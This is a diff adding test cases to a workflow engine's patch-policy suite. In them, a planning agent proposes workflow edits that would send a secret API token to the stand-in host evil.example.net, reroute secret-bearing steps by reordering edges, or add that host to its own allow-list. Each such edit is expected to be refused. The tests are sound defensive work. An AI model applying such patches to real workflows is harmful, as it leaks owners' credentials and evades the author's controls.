@@ -28,6 +28,7 @@ from tests.conftest import stored_run
 from workflows.definition.gates import nodes_by_id
 from workflows.models import Artifact, Event, NodeRun, PatchRefusal, Run, RunPatch
 from workflows.services.patches import PatchDenied, PatchRejected, SpawnLimitExceeded, run_patch_propose
+from workflows.services.patches.policy import Rule
 
 pytestmark = pytest.mark.django_db
 
@@ -216,6 +217,27 @@ TIMED = {"nodes": [agent("plan"), transform("page"),
                                                               "condition": "iteration < 1", "timeout_path": "alert"}},
                    http("alert", method="POST", headers={"X-Api-Key": "$secrets.API_TOKEN"})],
          "edges": [edge("plan", "page"), edge("page", "more")]}
+
+
+# A conditional joining an author's screening agent (its first edge in) and the planner: it passes on, and routes
+# on, the output of its first parent in edge order that delivered; post sends the owner's key with it.
+# /nodes: 0 plan, 1 screen, 2 check, 3 post, 4 note; /edges: 0 screen→check, 1 plan→check,
+# 2 check→post ($.message.startsWith('SEND')), 3 check→note
+SCREENED = {
+    "nodes": [agent("plan"), agent("screen", tools=["search_tools"]), {"id": "check", "type": "conditional", "config": {}},
+              http("post", method="POST", headers={"X-Api-Key": "$secrets.API_TOKEN"}, payload="$nodes.check"),
+              transform("note")],
+    "edges": [edge("screen", "check"), edge("plan", "check"), edge("check", "post", "$.message.startsWith('SEND')"),
+              edge("check", "note")],
+}
+# A loop round a step that sends a secret, judging its condition on its first parent in edge order (post's
+# answer): /nodes: 0 plan, 1 page, 2 post, 3 more; /edges: 0 plan→page, 1 page→post, 2 post→more, 3 plan→more
+JUDGED = {
+    "nodes": [agent("plan"), transform("page"), http("post", method="POST", headers={"X-Api-Key": "$secrets.API_TOKEN"}),
+              {"id": "more", "type": "loop", "config": {"max_iterations": 50, "loop_back_to": "page",
+                                                         "condition": "output.status != 'success'"}}],
+    "edges": [edge("plan", "page"), edge("page", "post"), edge("post", "more"), edge("plan", "more")],
+}
 
 
 def loop_back(target: str, node_id: str = "again") -> list[dict[str, Any]]:
@@ -821,6 +843,22 @@ CORPUS = [
         [replace("/nodes/4/config/expression", "'rm -rf'")], "agent_privilege", 0),
     row("workflow-routed-to-by-a-new-edge", ROUTED, PLANNING, PLAN, [add_edge("plan", "deploy")],
         "agent_privilege", 0),
+    # the order of a node's edges in decides what a conditional passes on and a loop judges (its first parent
+    # that delivered): reordering them routes as surely as a new edge
+    row("secret-edges-into-a-conditional-reordered", SCREENED, PLANNING, PLAN, [move("/edges/1", "/edges/0")],
+        "secret_reference", 0),
+    row("secret-edges-into-a-loop-reordered", JUDGED, PLANNING, PLAN, [move("/edges/3", "/edges/2")],
+        "secret_reference", 0),
+    row("secret-a-loop-exit-written-out-before-the-others",
+        {"nodes": [*SCREENED["nodes"], transform("x"),
+                   {"id": "more", "type": "loop", "config": {"max_iterations": 2, "loop_back_to": "x",
+                                                              "break_path": "check"}}],
+         "edges": [edge("screen", "check"), edge("plan", "x"), edge("x", "more"), *SCREENED["edges"][2:]]},
+        PLANNING, PLAN, [add("/edges/0", edge("more", "check"))], "secret_reference", 0),
+    # an agent holds the secrets its auth sends, not those its task mentions
+    row("secret-mentioned-in-the-proposer-s-task-is-not-held",
+        with_config(ROUTED, "plan", task="never print $secrets.API_TOKEN"), PLANNING, PLAN, [add_edge("plan", "post")],
+        "secret_reference", 0),
     row("secret-steps-after-itself-accepted", ROUTED, PLANNING, PLAN,
         [*after("plan", transform("x")), *after("x", http("y", f"{API}/y"))], "applied"),
     row("secret-unrelated-step-rewritten-accepted", ROUTED, PLANNING, PLAN,
@@ -835,6 +873,21 @@ CORPUS = [
         PLAN, [*after("plan", transform("note")), add_edge("note", "draft")], "applied"),
     row("privilege-person-is-trusted", INVOICE, PLANNING, PERSON,
         after("plan", agent("helper", tools=["openapi_action", "delegate_to_agent"])), "applied"),
+
+    # --- host_not_allowed (workflows.egress: the author's metadata.allowed_hosts, for every proposer; a host a
+    # reference fills is judged at the send) ------------------------------------------------------------
+    row("host-not-allowed", with_metadata(INVOICE, allowed_hosts=["api.example.com"]), PLANNING, PLAN,
+        after("plan", http("leak", "https://evil.example.net/x")), "host_not_allowed", 0),
+    row("host-not-allowed-before-a-reference", with_metadata(INVOICE, allowed_hosts=["api.example.com"]), PLANNING,
+        PLAN, after("plan", http("leak", "https://evil.example.net/${nodes.plan.message}")), "host_not_allowed", 0),
+    row("host-not-allowed-an-author-s-url-rewritten", with_metadata(INVOICE, allowed_hosts=["api.example.com"]),
+        PLANNING, PERSON, [replace("/nodes/1/config/url", "https://evil.example.net/invoice")], "host_not_allowed", 0),
+    row("host-under-a-wildcard-accepted", with_metadata(INVOICE, allowed_hosts=["*.example.com"]), PLANNING, PLAN,
+        after("plan", http("more", "https://files.example.com/x")), "applied"),
+    row("host-of-a-reference-judged-at-the-send-accepted", with_metadata(INVOICE, allowed_hosts=["api.example.com"]),
+        PLANNING, PLAN, after("plan", http("more", "$nodes.plan.message")), "applied"),
+    row("host-list-out-of-an-agent-s-reach", with_metadata(INVOICE, allowed_hosts=["api.example.com"]), PLANNING,
+        PLAN, [add("/metadata/allowed_hosts/-", "evil.example.net")], "metadata_immutable", 0),
 
     # --- unique_edge (the definition's rule, every save and patch alike) --------------------------------
     row("duplicate-edge", INVOICE, PLANNING, PLAN, [add_edge("plan", "fetch")], "unique_edge", 0),
@@ -1215,7 +1268,7 @@ def test_the_corpus_is_large_and_covers_every_rule():
         "unreachable_node", "gate_approvers", "gate_timeout_approve", "gate_outcome", "gate_bypass",
         "agent_privilege", "unique_edge", "max_run_nodes", "max_patches", "excessive_agent_nodes", "ssrf",
         "approved_action_started", "patch_policy", "unknown_proposer", "unknown_node_type", "node_id_length",
-        "applied", "pending_approval", "noop"}
+        "applied", "pending_approval", "noop", *(rule.value for rule in Rule)}
 
 
 def test_held_patches_that_commute_all_apply_in_any_order(user):
